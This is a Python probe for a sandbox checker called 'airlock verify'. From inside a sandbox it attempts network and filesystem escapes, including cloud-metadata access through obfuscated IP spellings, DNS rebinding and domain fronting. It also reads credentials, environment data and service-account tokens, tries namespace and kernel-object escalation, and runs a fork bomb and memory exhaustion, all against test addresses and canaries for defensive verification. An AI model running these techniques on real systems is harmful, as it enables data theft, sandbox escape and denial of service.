"""The probe `airlock verify` runs inside its sandbox: each attempt its checks name, made once. What an attempt
saw is kept for the record only; the checks judge by what reached the fake internet and the host.

Standard library alone, and no import of airlock: it runs under the system's python3 in the sandbox
(`python3 -I -c SOURCE CONFIG`). It writes, in its working directory, `airlock-verify/probe.json` (each attempt it
made: what it saw) and `airlock-verify/*.bin` (every byte it could read of what the gateway keeps from it).

One module past 500 lines on purpose: the sandbox runs this file alone with the standard library (it imports
nothing of airlock, which the sandbox may not have), so every attempt must be in it."""

from __future__ import annotations

import contextlib
import glob
import json
import os
import signal
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

TIMEOUT = 3.0
OUT = Path("airlock-verify")
READ_LIMIT = 1 << 20  # bytes of one file
# Threads count against --pids (256 by default): a dozen attempts at once, each with up to 8 actions.
OUTER_WORKERS, INNER_WORKERS = 12, 8
_DUMPING = threading.Lock()  # one writer at a time, so that no file's bytes interleave with another's

# The addresses of the fake internet the attempts dial where no name leads (airlock.verify.topology.FAKE_ADDRS).
ALLOWED_ADDR = "192.0.2.10"
CANARY_ADDR = "203.0.113.66"
OTHER_ADDR = "198.51.100.10"
DNS_ADDR = "192.0.2.53"
METADATA = "169.254.169.254"
INTERNAL_ADDR = "10.1.2.3"  # an internal host no rule opens (a rebinding name's second answer)
# 169.254.169.254 as a URL may also spell it: decimal, hex, octal, mixed, IPv4-mapped IPv6, short forms.
METADATA_SPELLINGS = (
    "2852039166",
    "0xa9fea9fe",
    "0251.0376.0251.0376",
    "0xa9.0xfe.0xa9.0xfe",
    "169.254.43518",
    "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]",
)

# The first bytes of a QUIC v1 Initial (long header, version 1), padded as clients pad it to 1200 bytes.
QUIC_INITIAL = b"\xc3\x00\x00\x00\x01\x08" + bytes(8) + b"\x00\x00\x44\xd0" + bytes(1182)

Attempt = Callable[[dict[str, Any]], str]


def _outcome(action: Callable[[], str]) -> str:
    """What an attempt saw, as one short line; an error is an outcome like any other."""
    try:
        return action()
    except (OSError, ValueError) as e:
        return f"{type(e).__name__}: {e}"


def _proxy() -> tuple[str, int]:
    url = urlsplit(os.environ.get("HTTPS_PROXY") or os.environ.get("HTTP_PROXY") or "http://127.0.0.1:3128")
    return url.hostname or "127.0.0.1", url.port or 3128


def _first_line(sock: socket.socket) -> str:
    data = b""
    while b"\r\n" not in data and len(data) < 4096:
        chunk = sock.recv(4096)
        if not chunk:
            break
        data += chunk
    return data.split(b"\r\n", 1)[0].decode("latin-1") or "closed without an answer"


def _connect(host: str, port: int) -> socket.socket:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.settimeout(TIMEOUT)
    try:
        sock.connect((host, port))
    except BaseException:
        sock.close()
        raise
    return sock


def tunnel(host: str, port: int) -> tuple[socket.socket, str]:
    """A CONNECT through the gateway's proxy: the socket and the proxy's status line."""
    sock = _connect(*_proxy())
    sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
    return sock, _first_line(sock)


def tls_get(sock: socket.socket, sni: str | None, host: str, path: str, headers: str = "") -> str:
    """A GET over TLS on `sock` with this SNI and Host (and these header lines); the answer's status line (the
    probe trusts any certificate: what it checks is where its bytes go, not whom it talks to)."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with context.wrap_socket(sock, server_hostname=sni) as tls:
        tls.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{headers}Connection: close\r\n\r\n".encode())
        return _first_line(tls)


def connect_only(host: str, port: int) -> str:
    """A CONNECT that, once open, sends a line of its own (a gateway may wait for the first bytes to judge them)."""
    sock, status = tunnel(host, port)
    with sock:
        if " 200" not in status:
            return f"CONNECT {host}:{port}: {status}"
        sock.sendall(b"airlock-verify\r\n")
        return f"CONNECT {host}:{port}: {status}; then {_first_line(sock)}"


def connect_then_tls(host: str, port: int, sni: str, path: str) -> str:
    sock, status = tunnel(host, port)
    with sock:
        if " 200" not in status:
            return f"CONNECT {host}:{port}: {status}"
        return f"CONNECT {host}:{port}: {status}; TLS {sni}: {tls_get(sock, sni, host, path)}"


def proxy_get(url: str, host: str) -> str:
    """A plain-HTTP request through the proxy for `url`, whose Host header says `host`."""
    with _connect(*_proxy()) as sock:
        sock.sendall(f"GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        return f"GET {url} (Host {host}) via proxy: {_first_line(sock)}"


def direct(host: str, port: int, payload: bytes) -> str:
    """`payload` sent to host:port without the proxy."""
    with _connect(host, port) as sock:
        sock.sendall(payload)
        return f"{host}:{port} direct: {_first_line(sock)}"


def direct_tls(host: str, port: int, sni: str | None) -> str:
    """TLS (this SNI, or none) to host:port without the proxy."""
    with _connect(host, port) as sock:
        return f"{host}:{port} direct TLS {sni}: {tls_get(sock, sni, sni or host, '/')}"


def resolve(name: str) -> list[str]:
    return sorted({str(info[4][0]) for info in socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)})


def dns_question(name: str) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 0x4A4C, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


def dns_udp(server: str, name: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT)
        sock.sendto(dns_question(name), (server, 53))
        return f"DNS/UDP {server}: {len(sock.recv(4096))} bytes back"


def dns_tcp(server: str, name: str) -> str:
    question = dns_question(name)
    with _connect(server, 53) as sock:
        sock.sendall(struct.pack(">H", len(question)) + question)
        return f"DNS/TCP {server}: {len(sock.recv(4096))} bytes back"


def each(*actions: Callable[[], str]) -> str:
    """The actions' outcomes, side by side (a blackholed one costs its timeout once, not once per action)."""
    with ThreadPoolExecutor(max_workers=INNER_WORKERS) as pool:
        return "; ".join(pool.map(_outcome, actions))


# --------------------------------------------------------------------------------------------------- network


def reach(config: dict[str, Any]) -> str:
    path = f"/airlock-verify/{config['nonce']}/reach"
    return each(*(lambda host=host: connect_then_tls(host, 443, host, path) for host in config["allowed"]))


def front_address(config: dict[str, Any]) -> str:
    """The front host's address as the sandbox's DNS answers it (the fake internet's allowed upstream if not)."""
    try:
        return resolve(config["front"])[0]
    except (OSError, IndexError):
        return ALLOWED_ADDR


def direct_tcp(config: dict[str, Any]) -> str:
    return _outcome(lambda: direct(front_address(config), 22, b"SSH-2.0-airlock-verify\r\n"))


def datagram(address: str, port: int, payload: bytes) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(payload, (address, port))
        return f"UDP {address}:{port} sent"


def udp(config: dict[str, Any]) -> str:
    front = front_address(config)
    return each(
        partial(datagram, front, 9999, b"airlock-verify"), partial(datagram, CANARY_ADDR, 9999, b"airlock-verify"),
        partial(datagram, front, 443, QUIC_INITIAL), partial(datagram, CANARY_ADDR, 443, QUIC_INITIAL),
    )  # fmt: skip


def icmp(config: dict[str, Any]) -> str:
    echo = struct.pack(">BBHHH", 8, 0, 0xF7FF, 0, 0)  # type 8 (echo request), checksum precomputed for id/seq 0

    def ping_socket(kind: int) -> str:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as sock:
            sock.sendto(echo, (front_address(config), 0))
            return f"ICMP echo sent ({'raw' if kind == socket.SOCK_RAW else 'datagram'} socket)"

    def ping_program() -> str:
        argv = ["ping", "-c", "1", "-W", "1", front_address(config)]
        done = subprocess.run(argv, capture_output=True, text=True, timeout=5, check=False)
        return f"ping: exit {done.returncode}"

    return each(lambda: ping_socket(socket.SOCK_DGRAM), lambda: ping_socket(socket.SOCK_RAW), ping_program)


def ipv6(config: dict[str, Any]) -> str:
    payload = b"airlock-verify\r\n"
    return each(lambda: direct("2001:db8::10", 80, payload), lambda: direct(f"::ffff:{OTHER_ADDR}", 22, payload))


def dns_other_resolver(config: dict[str, Any]) -> str:
    name = f"r-{config['nonce']}.{config['canary']}"
    return each(
        lambda: dns_udp(DNS_ADDR, name), lambda: dns_tcp(DNS_ADDR, name),
        lambda: dns_udp("8.8.8.8", name), lambda: dns_tcp("1.1.1.1", name),
    )  # fmt: skip


def dns_encrypted(config: dict[str, Any]) -> str:
    """DNS over TLS to the fake upstream resolver and to the canary, directly and by CONNECT; DNS over HTTPS to the
    canary by its address."""
    path = f"/airlock-verify/{config['nonce']}/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUDY29tAAABAAE"
    return each(
        partial(direct_tls, DNS_ADDR, 853, "dns.airlock-verify.example"),
        partial(direct_tls, CANARY_ADDR, 853, None),
        partial(connect_then_tls, DNS_ADDR, 853, "dns.airlock-verify.example", "/"),
        partial(connect_then_tls, CANARY_ADDR, 8443, CANARY_ADDR, path),
        partial(proxy_get, f"https://{CANARY_ADDR}:8443{path}", f"{CANARY_ADDR}:8443"),
    )


def dns_unlisted(config: dict[str, Any]) -> str:
    name = f"u-{config['nonce']}.{config['canary']}"
    return each(lambda: f"resolved {resolve(name)}", lambda: f"resolved {resolve('u2-' + name)} (again)")


def metadata_literal(config: dict[str, Any]) -> str:
    return each(
        lambda: proxy_get(f"http://{METADATA}/latest/meta-data/", METADATA),
        lambda: connect_then_tls(METADATA, 80, METADATA, "/"),
        lambda: direct(METADATA, 80, b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"),
    )


def metadata_spellings(config: dict[str, Any]) -> str:
    attempts: list[Callable[[], str]] = []
    for spelling in METADATA_SPELLINGS:
        attempts.append(partial(proxy_get, f"http://{spelling}:8080/latest/meta-data/", f"{spelling}:8080"))
        attempts.append(partial(connect_only, spelling, 8080))
    attempts.append(partial(direct, f"::ffff:{METADATA}", 8080, b"GET / HTTP/1.1\r\nHost: metadata\r\n\r\n"))
    return each(*attempts)


def metadata_name(config: dict[str, Any]) -> str:
    alias = config["metadata_alias"]
    path = f"/airlock-verify/{config['nonce']}/metadata"

    def direct_by_name() -> str:
        return "; ".join(_outcome(partial(direct_tls, address, 443, alias)) for address in resolve(alias))

    return each(lambda: connect_then_tls(alias, 443, alias, path), direct_by_name)


def dns_rebinding(config: dict[str, Any]) -> str:
    """The rebinding name through the proxy: once while it answers its public address, then again once the
    gateway's cache of that answer is over (it answers an internal address from then on)."""
    name, path = config["rebind"], f"/airlock-verify/{config['nonce']}/rebind"
    first = _outcome(partial(connect_then_tls, name, 443, name, path))
    time.sleep(config["rebind_wait"])
    then = each(partial(connect_then_tls, name, 443, name, path), partial(proxy_get, f"http://{name}{path}", name))
    return f"first: {first}; after {config['rebind_wait']}s: {then}"


def connect_denied(config: dict[str, Any]) -> str:
    path = f"/airlock-verify/{config['nonce']}/denied"
    return each(*(lambda n=name: connect_then_tls(n, 443, n, path) for name in config["canaries"]))


def sni_fronting(config: dict[str, Any]) -> str:
    front, canary = config["front"], config["canaries"][0]
    path = f"/airlock-verify/{config['nonce']}/sni"

    def transparent() -> str:
        with _connect(front_address(config), 443) as sock:
            return f"direct TLS SNI {canary}: {tls_get(sock, canary, canary, path)}"

    return each(lambda: connect_then_tls(front, 443, canary, path), transparent)


def host_fronting(config: dict[str, Any]) -> str:
    front, canary = config["front"], config["canaries"][0]
    path = f"/airlock-verify/{config['nonce']}/host"
    request = f"GET {path} HTTP/1.1\r\nHost: {canary}\r\nConnection: close\r\n\r\n".encode()
    return each(
        lambda: proxy_get(f"http://{front}{path}", canary),
        lambda: proxy_get(path, canary),
        lambda: direct(front_address(config), 80, request),
    )


def other_port(config: dict[str, Any]) -> str:
    front = config["front"]
    path = f"/airlock-verify/{config['nonce']}/port"
    return each(partial(connect_then_tls, front, 8443, front, path), partial(connect_only, front, 9999))


def gateway_ports(config: dict[str, Any]) -> str:
    """TCP and UDP to the gateway's address on ports it does not serve, and to its address on the other side."""
    actions: list[Callable[[], str]] = []
    for address in (_proxy()[0], config["gateway_other_address"]):
        for port in config["gateway_ports"]:
            actions.append(partial(direct, address, port, b"airlock-verify\r\n"))
            actions.append(partial(datagram, address, port, b"airlock-verify"))
    return each(*actions)


# --------------------------------------------------------------------------------------------------- files


def write(path: str, text: str) -> str:
    Path(path).write_text(text)
    return f"wrote {path}"


def write_inside(config: dict[str, Any]) -> str:
    return _outcome(lambda: write(f"inside-{config['nonce']}", config["nonce"]))


def write_outside(config: dict[str, Any]) -> str:
    nonce = config["nonce"]
    return each(
        lambda: write(f"{config['outside']}/direct-{nonce}", nonce),
        lambda: write(f"/tmp/airlock-verify-{nonce}", nonce),
    )


def write_symlink(config: dict[str, Any]) -> str:
    def through_link() -> str:
        os.symlink(config["outside"], f"link-{config['nonce']}")
        return write(f"link-{config['nonce']}/symlink-{config['nonce']}", config["nonce"])

    return _outcome(through_link)


def write_proc_root(config: dict[str, Any]) -> str:
    nonce, outside = config["nonce"], config["outside"]
    return each(
        lambda: write(f"/proc/self/root{outside}/procroot-{nonce}", nonce),
        lambda: write(f"/proc/1/root{outside}/proc1-{nonce}", nonce),
    )


# --------------------------------------------------------------------------------------------------- secrets


def read_all(patterns: list[str], into: str) -> str:
    """Every file the patterns find (folders walked), appended to `into` as far as it could be read."""
    found, read = 0, 0
    for pattern in patterns:
        for top in glob.glob(pattern):
            for path in [top] if os.path.isfile(top) else _walk(top):
                found += 1
                with contextlib.suppress(OSError), open(path, "rb") as f, _DUMPING, (OUT / into).open("ab") as dump:
                    dump.write(f.read(READ_LIMIT))
                    read += 1
    return f"{read} of {found} files read"


def _walk(top: str) -> list[str]:
    return [os.path.join(folder, name) for folder, _, names in os.walk(top) for name in names]


def other_sandbox(config: dict[str, Any]) -> str:
    """Another sandbox's working directory by its host path (read, written, its canary overwritten) and its
    gateway's address and ports."""
    folder, gateway, nonce = config["other_workdir"], config["other_gateway"], config["nonce"]
    return each(
        lambda: read_all([folder], "other.bin"),
        lambda: write(os.path.join(folder, f"intruder-{nonce}"), nonce),
        lambda: write(os.path.join(folder, "canary"), nonce),
        *(partial(direct, gateway, port, b"GET / HTTP/1.1\r\n\r\n") for port in config["other_tcp_ports"]),
        *(partial(datagram, gateway, port, dns_question(f"o-{nonce}.example")) for port in config["other_udp_ports"]),
    )


def read_state(config: dict[str, Any]) -> str:
    return read_all(config["gateway_paths"], "state.bin")


def read_secret(config: dict[str, Any]) -> str:
    env = json.dumps(dict(os.environ)).encode()
    (OUT / "env.json").write_bytes(env)
    return f"{read_all([config['secret_file'], '/proc/self/environ'], 'secret.bin')}; environment kept"


def placeholder_elsewhere(config: dict[str, Any]) -> str:
    """The inspection check's placeholder (as the sandbox's environment has it), in a header and in the URL, to
    each host the check names: over TLS to the inspected one and the passthrough one, in plain HTTP to the one on
    port 80."""
    held = os.environ.get(config["inspection_var"], "")
    path = f"/airlock-verify/{config['nonce']}/placeholder"

    def over_tls(host: str, target: str, header: str) -> str:
        sock, status = tunnel(host, 443)
        with sock:
            return f"GET {host}{target}: {tls_get(sock, host, host, target, header) if ' 200' in status else status}"

    def plain(host: str, target: str, header: str) -> str:
        with _connect(*_proxy()) as sock:
            sock.sendall(
                f"GET http://{host}{target} HTTP/1.1\r\nHost: {host}\r\n{header}Connection: close\r\n\r\n".encode()
            )
            return f"GET http://{host}{target}: {_first_line(sock)}"

    sends = [(over_tls, config["inspected"]), (plain, config["plain"]), (over_tls, config["passthrough"])]
    return each(*(
        partial(send, host, target, header) for send, host in sends if host
        for target, header in ((path, f"X-Api-Key: {held}\r\n"), (f"{path}?key={held}", ""))
    ))  # fmt: skip


def read_service_account_token(config: dict[str, Any]) -> str:
    tokens = [f"{root}/secrets/kubernetes.io/serviceaccount/token" for root in ("/var/run", "/run")]
    return read_all(tokens, "service-account.bin")


def docker_socket(config: dict[str, Any]) -> str:
    """The docker engine's API on its unix socket, at both of its usual paths."""

    def ask(path: str) -> str:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
            sock.settimeout(TIMEOUT)
            sock.connect(path)
            sock.sendall(b"GET /version HTTP/1.0\r\n\r\n")
            return f"{path}: {_first_line(sock)}"

    return each(*(partial(ask, path) for path in ("/var/run/docker.sock", "/run/docker.sock")))


def read_host_env(config: dict[str, Any]) -> str:
    return read_all(["/proc/*/environ", "/proc/*/cmdline"], "host.bin")


# --------------------------------------------------------------------------------------------------- privilege

CHILD = "airlock-verify-child"  # in each holding child's argv: how the checks find it among the host's processes
RELEASE = OUT / "release"  # made by `airlock verify` once it has looked at the sandbox's processes
READY = OUT / "ready"  # made here once every attempt is made (and each holding child has made its own)
HOLD_LIMIT = 30.0  # seconds a child (and the probe) waits for the release
# A child makes one escalation step, says what it got, and holds what it got (a namespace, a socket, a descriptor,
# a tracer) until released: the host then sees the sandbox's processes as the step left them.
_CHILD = """
import ctypes, os, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def check(got):
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return got
def call(number, *args):  # whole registers, as libc passes them
    return check(libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args]))
held = []
try:
    exec(sys.argv[3])
    print("got it", flush=True)
except Exception as e:  # what it got, whatever it was
    print(f"{type(e).__name__}: {e}", flush=True)
deadline = time.monotonic() + float(sys.argv[4])
while not os.path.exists(sys.argv[1]) and time.monotonic() < deadline:
    time.sleep(0.05)
"""
_ZEROS = "ctypes.create_string_buffer(256)"
# kind -> the step (Python, with `call`, `held` and the config's syscall numbers as `nr`)
STEPS = {
    "userns": "check(libc.unshare(0x10000000))",  # CLONE_NEWUSER
    "netns": "check(libc.unshare(0x40000000))",  # CLONE_NEWNET
    "mountns": "check(libc.unshare(0x00020000))",  # CLONE_NEWNS
    "mount": "check(libc.mount(b'none', MNT, b'tmpfs', 0, None))",
    "ptrace": "call(nr['ptrace'], 0, 0, 0, 0)",  # PTRACE_TRACEME: its parent would trace it
    "raw-socket": "held.append(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))",
    "packet-socket": "held.append(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))",  # ETH_P_ALL
    "io_uring": f"held.append(call(nr['io_uring_setup'], 1, {_ZEROS}))",
    "bpf": "held.append(call(nr['bpf'], 0, ctypes.create_string_buffer(struct.pack('<IIII', 2, 4, 8, 1), 72), 72))",
    "userfaultfd": "held.append(call(nr['userfaultfd'], 1))",  # UFFD_USER_MODE_ONLY
    "add_key": "held.append(call(nr['add_key'], b'user', b'airlock-verify', b'key', 3, -2))",  # the process keyring
    "keyctl": "held.append(call(nr['keyctl'], 1, b'airlock-verify'))",  # KEYCTL_JOIN_SESSION_KEYRING: a new one
    "perf_event": "held.append(call(nr['perf_event_open'], ctypes.create_string_buffer(struct.pack('<II', 1, 128), "
    "128), 0, -1, -1, 0))",  # a software counter (cpu-clock) of this process
}


def hold(kind: str, config: dict[str, Any]) -> str:
    """A child of the probe that takes one escalation step and holds it until released; what it got."""
    prelude = f"import struct\nnr = {config['syscalls']!r}\nMNT = {config['mount_point'].encode()!r}\n"
    argv = [sys.executable, "-I", "-c", _CHILD, str(RELEASE.absolute()), f"{CHILD}-{kind}", prelude + STEPS[kind]]
    child = subprocess.Popen([*argv, str(HOLD_LIMIT)], stdout=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True)
    assert child.stdout is not None
    return f"{kind}: {child.stdout.readline().strip() or f'ended ({child.wait()})'}"


def holding(*kinds: str) -> Attempt:
    def attempt(config: dict[str, Any]) -> str:
        return "; ".join(_outcome(partial(hold, kind, config)) for kind in kinds)

    return attempt


def run_marked(config: dict[str, Any]) -> str:
    """The host's setuid-root and file-capability copies of sleep, run: with no new privileges allowed, neither
    may gain anything (the host sees their processes' IDs and capabilities)."""

    def start(path: str) -> str:
        subprocess.Popen([path, str(HOLD_LIMIT)], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
        return f"started {path}"

    return each(*(partial(start, path) for path in config["marked_programs"]))


# --------------------------------------------------------------------------------------------------- resources

FILL = "airlock-verify-fill-{nonce}"  # the /tmp fill's file name
# Busy until it has had its CPU time; holding memory until killed; forking until refused, each fork waiting to be
# killed.
_BURN = """
import sys, time
end = time.monotonic() + 4 * float(sys.argv[1])  # a host too busy to give it the time: it gives up
while time.process_time() < float(sys.argv[1]) and time.monotonic() < end:
    pass
"""
_HOG = """
import sys
with open("/proc/self/oom_score_adj", "w") as f:  # the one the kernel kills first, whatever else is running
    f.write("1000")
held, chunk = [], 16 << 20
while len(held) * chunk < int(sys.argv[1]):
    held.append(b"\\1" * chunk)  # written, not only reserved: every page counted
print(f"held {len(held) * chunk} bytes", flush=True)
"""
_BOMB = """
import os, sys, time
forks = 0
try:
    while forks < int(sys.argv[1]):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        forks += 1
    print(f"{forks} forks", flush=True)
except OSError as e:
    print(f"{forks} forks, then {e.strerror}", flush=True)
"""
_AFTER = "import sys\nwith open(sys.argv[1], 'w') as f:\n    f.write(sys.argv[2])"  # a process after the bomb


def _child(kind: str, source: str, *args: str) -> subprocess.Popen[str]:
    argv = [sys.executable, "-I", "-c", source, *args, f"{CHILD}-{kind}"]
    return subprocess.Popen(argv, stdout=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True, start_new_session=True)


def burn_cpu(config: dict[str, Any]) -> str:
    """More processes busy at once than the CPU quota gives time to: the kernel throttles the sandbox's group."""
    burners = [_child("cpu", _BURN, str(config["burn_seconds"])) for _ in range(config["burners"])]
    exits = [p.wait() for p in burners]
    return f"{len(burners)} processes each busy for {config['burn_seconds']}s of CPU: exits {exits}"


def hog_memory(config: dict[str, Any]) -> str:
    """A child that writes more memory than the limit: the kernel kills it (-9), the probe goes on."""
    hog = _child("memory", _HOG, str(config["hog_bytes"]))
    assert hog.stdout is not None
    said = hog.stdout.read().strip()
    return f"a child writing {config['hog_bytes']} bytes: exit {hog.wait()}{f' ({said})' if said else ''}"


def fork_bomb(config: dict[str, Any]) -> str:
    """A child forking past the pids limit, its forks then killed; then the sandbox must still start a process."""
    bomb = _child("fork-bomb", _BOMB, str(config["bomb_forks"]))
    assert bomb.stdout is not None
    said = bomb.stdout.readline().strip() or "nothing"
    with contextlib.suppress(OSError):
        os.killpg(bomb.pid, signal.SIGKILL)
    bomb.wait()
    deadline = time.monotonic() + 10
    while True:  # the killed forks are reaped by the sandbox's init: until then their slots stay taken
        try:
            after = subprocess.run([sys.executable, "-I", "-c", _AFTER, str(OUT / "after-bomb"), config["nonce"]])
            return f"the bomb: {said}; then a new process: exit {after.returncode}"
        except OSError as e:
            if time.monotonic() > deadline:
                return f"the bomb: {said}; then no new process: {e}"
            time.sleep(0.1)


def fill_tmp(config: dict[str, Any]) -> str:
    """/tmp written until it refuses or the fill is as large as asked (kept there for the host to see)."""
    path, written, chunk = Path("/tmp") / FILL.format(nonce=config["nonce"]), 0, b"\0" * (1 << 20)
    try:
        with path.open("wb") as f:
            while written < config["tmp_fill"]:
                written += f.write(chunk)
                f.flush()
    except OSError as e:
        return f"wrote {written} bytes to {path}, then {type(e).__name__}: {e}"
    return f"wrote {written} bytes to {path}"


# Made one at a time once every other attempt is made: each takes the whole sandbox to one of its limits.
RESOURCES: dict[str, Attempt] = {"cpu": burn_cpu, "memory": hog_memory, "fork-bomb": fork_bomb, "tmp-fill": fill_tmp}

ATTEMPTS: dict[str, Attempt] = {
    "reach": reach,
    "direct-tcp": direct_tcp,
    "udp": udp,
    "icmp": icmp,
    "ipv6": ipv6,
    "dns-other-resolver": dns_other_resolver,
    "dns-unlisted": dns_unlisted,
    "dns-encrypted": dns_encrypted,
    "metadata-literal": metadata_literal,
    "metadata-spellings": metadata_spellings,
    "metadata-name": metadata_name,
    "dns-rebinding": dns_rebinding,
    "connect-denied": connect_denied,
    "sni-fronting": sni_fronting,
    "host-fronting": host_fronting,
    "other-port": other_port,
    "gateway-ports": gateway_ports,
    "write-inside": write_inside,
    "write-outside": write_outside,
    "write-symlink": write_symlink,
    "write-proc-root": write_proc_root,
    "read-state": read_state,
    "other-sandbox": other_sandbox,
    "read-secret": read_secret,
    "read-host-env": read_host_env,
    "placeholder-elsewhere": placeholder_elsewhere,
    "read-service-account": read_service_account_token,
    "docker-socket": docker_socket,
    "setuid": run_marked,
    "namespaces": holding("userns", "netns", "mountns"),
    "mount": holding("mount"),
    "ptrace": holding("ptrace"),
    "raw-sockets": holding("raw-socket", "packet-socket"),
    "kernel-objects": holding("io_uring", "bpf", "userfaultfd", "perf_event"),
    "keyring": holding("add_key", "keyctl"),
}
HOLDING = {"setuid", "namespaces", "mount", "ptrace", "raw-sockets", "kernel-objects", "keyring"}


def main(argv: list[str]) -> int:
    config = json.loads(argv[1])
    OUT.mkdir()
    names = [name for name in config["attempts"] if name in ATTEMPTS]
    Path(config["mount_point"]).mkdir()
    with ThreadPoolExecutor(max_workers=OUTER_WORKERS) as pool:
        seen = dict(zip(names, pool.map(lambda name: _outcome(lambda: ATTEMPTS[name](config)), names), strict=True))
    seen |= {name: _outcome(partial(RESOURCES[name], config)) for name in config["attempts"] if name in RESOURCES}
    (OUT / "probe.json").write_text(json.dumps(seen, indent=1))
    READY.touch()
    # The host looks at what the children hold (or, "hold": at the folder it cannot otherwise read), then releases.
    if (HOLDING | set(RESOURCES)) & set(seen) or config.get("hold"):
        deadline = time.monotonic() + HOLD_LIMIT
        while not RELEASE.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
